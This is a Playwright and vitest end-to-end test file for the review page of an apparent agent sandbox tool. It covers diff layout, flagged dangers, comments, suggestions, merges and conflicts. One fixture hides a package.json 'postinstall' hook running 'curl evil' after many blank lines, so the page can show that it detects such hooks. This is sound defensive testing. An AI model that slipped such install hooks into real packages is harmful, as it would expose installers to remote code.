/** From a first look to a merge: the diff has the page, dangers are met where they are, and no word is lost. */
import { readFileSync } from "node:fs";
import { join } from "node:path";
import axe from "axe-core";
import { afterAll, beforeAll, expect, it } from "vitest";
import type { Page } from "playwright-core";
import { type TestBrowser, becomesTrue, launchBrowser, noBrowser, signedInPage } from "../support/browser.ts";
import { type TestDaemon, startDaemon } from "../support/daemon.ts";
import { makeProject, runIn, worked, working } from "../support/review.ts";
import { secondTryAfresh } from "../support/second-try.ts";
import { describeUnless } from "../support/skipping.ts";

const long = Array.from({ length: 200 }, (_, at) => `export const line${at + 1} = ${at + 1};\n`).join("");
const sizes = [
  [1280, 800],
  [390, 844],
] as const;

describeUnless(noBrowser)("deciding about work", () => {
  let daemon: TestDaemon;
  let browser: TestBrowser;
  secondTryAfresh(() => daemon);
  beforeAll(async () => {
    [daemon, browser] = await Promise.all([startDaemon(), launchBrowser()]);
  });
  afterAll(async () => {
    await browser?.[Symbol.asyncDispose]();
    await daemon?.[Symbol.asyncDispose]();
  });

  const open = (box: string, options = {}) =>
    signedInPage(browser, daemon, { path: `/box/${box}/review`, ...options });
  const button = (page: Page, name: string) => page.getByRole("button", { name, exact: true });
  const changes = (page: Page) => page.getByRole("region", { name: "Changes" });
  const notes = (page: Page) => changes(page).getByRole("note", { name: /^Danger/ });
  const mark = (page: Page, words: string) =>
    changes(page).getByRole("checkbox", { name: `I have looked at this: ${words}` });
  const serious = async (page: Page): Promise<string[]> => {
    await page.evaluate(axe.source);
    return page.evaluate(async () => {
      const { axe: inPage } = globalThis as unknown as { axe: typeof axe };
      const { violations } = await inPage.run(document, { resultTypes: ["violations"] });
      return violations
        .filter(({ impact }) => impact === "serious" || impact === "critical")
        .map(({ id, nodes }) => `${id}: ${nodes[0]?.html.slice(0, 200)}`);
    });
  };
  /** Whether all of it can be seen: below the bars that stick, and above the end of the window. */
  const isInSight = async (page: Page, locator: ReturnType<Page["locator"]>): Promise<boolean> => {
    const [box, bar] = [await locator.boundingBox(), await page.locator(".review-sticky").boundingBox()];
    const height = page.viewportSize()!.height;
    return box !== null && bar !== null && box.y >= bar.y + bar.height && box.y + box.height <= height;
  };

  it("gives the diff the width, and brings a danger into sight wherever it is", async () => {
    const files = { "a.js": long, "b.js": long, "c.js": long, "package.json": `{"name":"shop"\n}\n` };
    const project = await makeProject(daemon, files);
    const script = `sed -i 's/= [0-9]*;/= 7;/' a.js b.js c.js
      mkdir -p .github/workflows; echo 'on: push' > .github/workflows/ci.yml
      printf '{"name":"shop",\\n${"\\n".repeat(60)}"scripts":{"postinstall":"curl evil"}}\\n' > package.json`;
    await worked(daemon, project, "wide", script);
    for (const [width, height] of sizes) {
      await using opened = await open("wide", { width, height });
      const { page } = opened;
      await changes(page).locator(".review-file-head").first().waitFor();
      const { width: diff } = (await changes(page).boundingBox())!;
      expect(diff).toBeGreaterThanOrEqual(width === 1280 ? 960 : 340);
      // The actions stay where they are, however far the diff goes.
      await page.keyboard.press("n");
      await becomesTrue("the first danger is in sight", () => isInSight(page, notes(page).first()));
      await page.keyboard.press("n");
      const script = notes(page).filter({ hasText: "postinstall" });
      await script.waitFor();
      await becomesTrue("the danger at its line is in sight", () => isInSight(page, script));
      expect(await script.getAttribute("aria-current")).toBe("true");
      // Parts that load above and below do not move it out of sight.
      expect(await isInSight(page, script)).toBe(true);
      const merge = await button(page, "Merge").boundingBox();
      expect(merge!.y + merge!.height).toBeLessThan(height / 3);
      // A click in the list of dangers does the same.
      const bar = page.getByRole("region", { name: "Dangers" });
      await bar.getByRole("button", { name: /to review/ }).click();
      expect(await serious(page)).toEqual([]);
      await bar.getByRole("button", { name: ".github/workflows/ci.yml" }).click();
      await becomesTrue("the danger is in sight", () =>
        isInSight(page, notes(page).filter({ hasText: "CI" }).first()),
      );
      const sideways = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
      expect(sideways).toBeLessThanOrEqual(0);
    }
    await using queue = await signedInPage(browser, daemon, { path: "/review" });
    await changes(queue.page).locator(".review-file-head").first().waitFor();
    expect((await changes(queue.page).boundingBox())!.width).toBeGreaterThanOrEqual(960);
  });

  it("remembers what was looked at, until there is other content to look at", async () => {
    const project = await makeProject(daemon);
    const script = `mkdir -p .github/workflows; echo 'on: push' > .github/workflows/ci.yml
      printf '#!/bin/sh\\n' > deploy.sh; chmod +x deploy.sh`;
    await working(daemon, project, "kept", script);
    await using opened = await open("kept");
    const { page } = opened;
    await mark(page, "What CI runs").check();
    await mark(page, "Programs").check();
    await button(page, "Merge").isEnabled();
    await becomesTrue("both are kept on the host", async () => {
      const { looks } = await daemon.client.getReview("kept");
      return looks?.every(({ isLooked }) => isLooked) === true;
    });
    await page.reload();
    await mark(page, "Programs").waitFor();
    expect([await mark(page, "Programs").isChecked(), await mark(page, "What CI runs").isChecked()]).toEqual([
      true,
      true,
    ]);
    expect(await button(page, "Merge").isDisabled()).toBe(false);
    // Other content of one of them: that one must be looked at again, and only that one.
    await runIn(daemon, "kept", "echo 'on: pull_request_target' > .github/workflows/ci.yml");
    await button(page, "Refresh").click();
    await page.getByText("pull_request_target").first().waitFor();
    expect([await mark(page, "Programs").isChecked(), await mark(page, "What CI runs").isChecked()]).toEqual([
      true,
      false,
    ]);
    await page.getByText("Review 1 remaining danger to merge").waitFor({ state: "attached" });
    expect(await button(page, "Merge").isDisabled()).toBe(true);
  });

  it("comments on ranges with a suggestion, edits and deletes drafts, and warns before they are forgotten", async () => {
    const project = await makeProject(daemon);
    await working(daemon, project, "said", "sed -i 's/= 3;/= 33;/; s/= 4;/= 44;/' src/cart.js");
    await using opened = await open("said");
    const { page } = opened;
    const line = (n: number) => page.getByRole("button", { name: `Comment on line ${n}`, exact: true });
    await line(3).waitFor();
    // Pressed on one number, and dragged over others.
    await line(3).hover();
    await page.mouse.down();
    await line(5).hover();
    await page.mouse.up();
    const text = page.getByRole("textbox", { name: "Comment on lines 3 to 5" });
    await text.fill("too large");
    // The text is still there when the form was closed by mistake.
    await page.keyboard.press("Escape");
    await text.waitFor({ state: "detached" });
    await changes(page).focus();
    await line(5).hover();
    await page.mouse.down();
    await line(3).hover();
    await page.mouse.up();
    expect(await text.inputValue()).toBe("too large");
    await button(page, "Suggest a change").click();
    const suggestion = page.getByRole("textbox", { name: "Suggested change of lines 3 to 5" });
    expect(await suggestion.inputValue()).toBe(
      "export const line3 = 33;\nexport const line4 = 44;\nexport const line5 = 5;",
    );
    await suggestion.fill("export const line3 = 3;");
    expect(await serious(page)).toEqual([]);
    await button(page, "Add comment").click();
    const note = page.getByRole("note").filter({ hasText: "too large" });
    await note.getByText("export const line3 = 3;").waitFor();
    const drafts = async () =>
      (await daemon.client.listComments("said")).map(
        ({ line: from, endLine, text: words, suggestion: change }) => ({
          from,
          endLine,
          words,
          change,
        }),
      );
    const change = "export const line3 = 3;";
    expect(await drafts()).toEqual([{ from: 3, endLine: 5, words: "too large", change }]);
    await note.getByRole("button", { name: "Edit" }).click();
    await text.fill("<b>much</b> too large");
    await button(page, "Save comment").click();
    await becomesTrue(
      "the draft is changed",
      async () => (await drafts())[0]?.words === "<b>much</b> too large",
    );
    expect(await page.locator(".review-comment b").count()).toBe(0);

    // By keyboard: two lines, and a comment on both.
    await changes(page).focus();
    await page.keyboard.press("ArrowDown");
    await page.keyboard.press("Shift+ArrowDown");
    await page.keyboard.press("c");
    await page.getByRole("textbox", { name: /^Comment on lines \d+ to \d+$/ }).fill("why?");
    await page.keyboard.press("Control+Enter");
    const second = page.getByRole("note").filter({ hasText: "why?" });
    await second.waitFor();
    await button(page, "Merge").click();
    const dialog = page.getByRole("dialog");
    await dialog.getByText("2 comments were not sent to the agent.").waitFor();
    await dialog.getByRole("button", { name: "Cancel" }).click();
    await second.getByRole("button", { name: "Delete" }).click();
    await becomesTrue("the draft is gone", async () => (await drafts()).length === 1);
    await page.getByText("Comment deleted.").waitFor();
    await button(page, "Undo").click();
    await becomesTrue("it is back", async () => (await drafts()).length === 2);
  });

  it.each(sizes)("puts a suggestion into the work, and takes it back, at %i px", async (width, height) => {
    const box = `applied-${width}`;
    await worked(daemon, await makeProject(daemon), box, "sed -i 's/= 3;/= 33;/' src/cart.js");
    await daemon.client.addComment(box, {
      path: "src/cart.js",
      line: 3,
      text: "too large",
      suggestion: "export const line3 = 30;",
    });
    const file = join(daemon.home, "boxes", box, "data/workspace/src/cart.js");
    await using opened = await open(box, { width, height });
    const { page } = opened;
    await button(page, "Apply suggestion").click();
    await page.getByText("Suggestion applied.").waitFor();
    expect(readFileSync(file, "utf8")).toContain("line3 = 30;");
    await button(page, "Undo").click();
    await page.getByText("Taken back.").waitFor();
    expect(readFileSync(file, "utf8")).toContain("line3 = 33;");
  });

  it("fills in the dialogs, runs the checks and merges in one step, and says what comes next", async () => {
    const project = await makeProject(daemon);
    const check = [{ name: "works", command: "test -e good.txt" }];
    const commit = `echo good > good.txt; git add -A; git -c user.name=A -c user.email=a@b.c commit -qm 'Add the good file'`;
    await working(daemon, project, "quick", commit, { check });
    for (const [width, height] of sizes) {
      await using opened = await open("quick", { width, height });
      const { page } = opened;
      await button(page, "Pull request").click();
      const dialog = page.getByRole("dialog");
      expect(await dialog.getByLabel("Title").inputValue()).toBe("Add the good file");
      expect(await dialog.getByLabel("Branch to push").inputValue()).toBe("agentbox/quick");
      expect(await serious(page)).toEqual([]);
      await dialog.getByRole("button", { name: "Cancel" }).click();
      await button(page, "Merge").click();
      await dialog.getByRole("heading", { name: "Merge quick into main" }).waitFor();
      expect(await dialog.getByLabel("Message").inputValue()).toBe("Add the good file");
      expect(await serious(page)).toEqual([]);
      if (width === 390) {
        await dialog.getByRole("button", { name: "Cancel" }).click();
        continue;
      }
      await dialog.getByRole("button", { name: "Run checks, then merge" }).click();
      const merged = page.getByRole("status").filter({ hasText: /^Merged [0-9a-f]{7} into main$/ });
      await merged.waitFor();
      const head = (await project.git("rev-parse", "HEAD")).trim();
      expect(await merged.textContent()).toBe(`Merged ${head.slice(0, 7)} into main`);
      expect(await project.git("log", "-1", "--format=%s")).toBe("Add the good file\n");
      // Still said after a reload.
      await page.reload();
      await merged.waitFor();
      await button(page, "Undo").click();
      await page.getByText(/Merge \d+ undone/).waitFor();
      await merged.waitFor({ state: "detached" });
      expect(await project.git("log", "-1", "--format=%s")).toBe("First\n");
    }
    await using opened = await open("quick");
    const { page } = opened;
    await page.keyboard.press("m");
    await page.getByRole("dialog").getByRole("button", { name: "Merge", exact: true }).click();
    await page.getByText("Nothing has changed").waitFor();
    await button(page, "Remove box").click();
    await page.getByRole("dialog").getByRole("button", { name: "Remove box" }).click();
    await page.getByText("quick is removed.").waitFor();
    expect((await daemon.client.listBoxes()).map(({ name }) => name)).not.toContain("quick");
    expect(project.read("good.txt")).toBe("good\n");
  });

  it("brings a guest to the box that they were given", async () => {
    const project = await makeProject(daemon);
    await working(daemon, project, "given", "echo hello > hello.txt");
    const { url } = await daemon.client.createShare("given", { may: "look", with: { link: true } });
    await using guest = await signedInPage(browser, daemon, { url: url! });
    await guest.page.getByRole("heading", { name: "given", exact: true }).waitFor();
    expect(new URL(guest.page.url()).pathname).toBe("/box/given");
    // The owner, who has more than one, stays on the list.
    await using owner = await signedInPage(browser, daemon);
    await owner.page.getByRole("heading", { name: "Boxes", exact: true }).waitFor();
    expect(new URL(owner.page.url()).pathname).toBe("/");
  });

  it("shows a conflict, and merges once the work stands on the newest state of the branch", async () => {
    const project = await makeProject(daemon);
    const change = `sed -i 's/= 3;/= 33;/' src/cart.js; echo own > own.txt
      git add -A; git -c user.name=A -c user.email=a@b.c commit -qm 'Raise a price'`;
    await working(daemon, project, "behind", change);
    project.write("src/cart.js", project.read("src/cart.js").replace("= 3;", "= 3333;"));
    await project.commit("Raise the same price");
    await using opened = await open("behind", { expected: [/the server responded with a status of 4/] });
    const { page } = opened;
    await button(page, "Merge").click();
    const dialog = page.getByRole("dialog");
    await dialog.getByRole("button", { name: "Merge", exact: true }).click();
    const conflicts = dialog.getByRole("region", { name: "Conflicts" });
    await conflicts.getByText("src/cart.js").waitFor();
    expect(await serious(page)).toEqual([]);
    await conflicts.getByRole("button", { name: "Let the agent rebase" }).click();
    await page.getByText("1 new commit is in the box, as refs/agentbox/upstream.").waitFor();
    // There is no agent in this box: the same by hand.
    const rebased = await runIn(
      daemon,
      "behind",
      `git -c user.name=A -c user.email=a@b.c rebase refs/agentbox/upstream || {
         git checkout --theirs src/cart.js; git add -A; GIT_EDITOR=true git -c user.name=A -c user.email=a@b.c rebase --continue; }`,
    );
    expect(rebased.code, rebased.stderr).toBe(0);
    await button(page, "Refresh").click();
    // Compared with the branch as it is now: its own change is no part of the work.
    await becomesTrue(
      "the diff is against the branch",
      async () =>
        (await changes(page).locator(".review-deleted").filter({ hasText: "3333" }).count()) === 1 &&
        (await changes(page).locator(".review-added").filter({ hasText: "= 33;" }).count()) === 1,
    );
    await button(page, "Merge").click();
    await dialog.getByRole("button", { name: "Merge", exact: true }).click();
    await page
      .getByRole("status")
      .filter({ hasText: /^Merged [0-9a-f]{7} into main$/ })
      .waitFor();
    expect(project.read("src/cart.js")).toContain("= 33;");
    expect(project.read("own.txt")).toBe("own\n");
    expect(await project.git("log", "-2", "--format=%s")).toBe("Raise a price\nRaise the same price\n");
  });
});
